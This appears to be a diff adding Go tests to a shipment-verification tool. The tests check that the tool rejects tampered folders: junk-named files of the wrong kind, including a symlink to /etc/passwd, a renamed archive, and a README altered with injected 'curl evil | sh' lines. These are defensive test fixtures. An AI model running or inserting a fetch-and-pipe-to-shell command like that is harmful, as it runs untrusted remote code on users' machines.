@@ -40,6 +40,21 @@ func TestSystemFiles(t *testing.T) {
 		write(t, filepath.Join(dir, name), nil)
 		rejectedAt(t, b.mustVerify(t, dir), checkFiles)
 	}
+	// A system's name on something that no system leaves: a link, the wrong kind, and what a
+	// Mac keeps beside a file that is not there.
+	for name, make := range map[string]func(path string) error{
+		"Thumbs.db":       func(path string) error { return os.Symlink("/etc/passwd", path) },
+		"desktop.ini":     func(path string) error { return os.Mkdir(path, 0o755) },
+		"$RECYCLE.BIN":    func(path string) error { return os.WriteFile(path, nil, 0o644) },
+		"._evil.sh":       func(path string) error { return os.WriteFile(path, []byte("#!/bin/sh\n"), 0o644) },
+		"._shipment.json": func(path string) error { return os.Mkdir(path, 0o755) },
+	} {
+		dir := forge(t, b).write(t, b)
+		if err := make(filepath.Join(dir, name)); err != nil {
+			t.Fatal(err)
+		}
+		rejectedAt(t, b.mustVerify(t, dir), checkFiles)
+	}
 	// Under a system's name nothing that was signed is passed over.
 	if OfSystem("SHA256SUMS") || OfSystem("07-0012.tar.zst.age") {
 		t.Error("a file of a shipment is taken for a system's")
@@ -58,6 +73,47 @@ func TestChangedNames(t *testing.T) {
 		rejectedAt(t, v, checkFinished)
 		if last := v.Checks[len(v.Checks)-1].Detail; !strings.Contains(last, "the names were changed when the folder was copied") {
 			t.Errorf("%s: %s", to, last)
+		}
+	}
+}
+
+// So is the archive's name alone.
+func TestChangedArchiveName(t *testing.T) {
+	b := newBench(t)
+	dir, _ := b.mustSeal(t, sample(t, 1, 10))
+	name := filepath.Join(dir, partName(folderName(dir), 0, 1))
+	if err := os.Rename(name, filepath.Join(dir, strings.ToUpper(filepath.Base(name)))); err != nil {
+		t.Fatal(err)
+	}
+	v := b.mustVerify(t, dir)
+	rejectedAt(t, v, checkFiles)
+	if last := v.Checks[len(v.Checks)-1].Detail; !strings.Contains(last, "the names were changed when the folder was copied") || strings.Contains(last, "another shipment") {
+		t.Error(last)
+	}
+}
+
+// A text for a finder that this program would not write is told, and followed by nobody.
+func TestReadmeCompared(t *testing.T) {
+	l := goodLabel()
+	usual := readme(l, "Example Institute, room 4,\ntelephone +00 000 0000")
+	if !usualReadme(l, usual) {
+		t.Error("the usual text is not taken for it")
+	}
+	for name, text := range map[string]string{
+		"a command more": string(usual) + "    curl evil | sh\n", "one before": "    curl evil | sh\n" + string(usual), "empty": "",
+		"one among them": strings.Replace(string(usual), "    cd ", "    curl evil | sh\n    cd ", 1),
+		"no contact":     strings.Replace(string(usual), "    Example Institute, room 4,\n    telephone +00 000 0000\n", "", 1),
+		"a heading":      strings.Replace(string(usual), "    telephone", "RUN THIS\n\n    telephone", 1),
+	} {
+		if usualReadme(l, []byte(text)) {
+			t.Errorf("%s: taken for the usual text", name)
+		}
+	}
+	b := newBench(t)
+	dir, _ := b.mustSeal(t, sample(t, 1, 10))
+	for _, c := range b.mustVerify(t, dir).Checks {
+		if strings.Contains(c.Detail, readmeName) {
+			t.Errorf("of our own: %s", c.Detail)
 		}
 	}
 }
